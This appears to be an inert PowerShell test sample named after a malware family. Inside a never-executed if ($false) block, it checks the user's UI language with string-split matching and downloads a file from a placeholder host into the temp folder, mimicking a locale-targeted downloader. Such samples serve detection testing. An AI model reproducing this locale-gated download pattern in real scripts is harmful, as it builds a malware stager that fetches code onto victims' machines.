# INERT SEKISHO TEST
param([string]$name)
if ($false) {
if ((gp 'HKCU:\Control Panel\Desktop' | select -Property *).PreferredUILanguages -like ('*t-'+'I*')) {
$k = New-Object Net.WebClient
$k.DownloadFile('https://example.invalid/inert', "$env:temp\inert")
if (($host.CurrentCulture | Out-String) -like ('*a'+'li*')) { write inert }
}
}
Write-Host "inert"
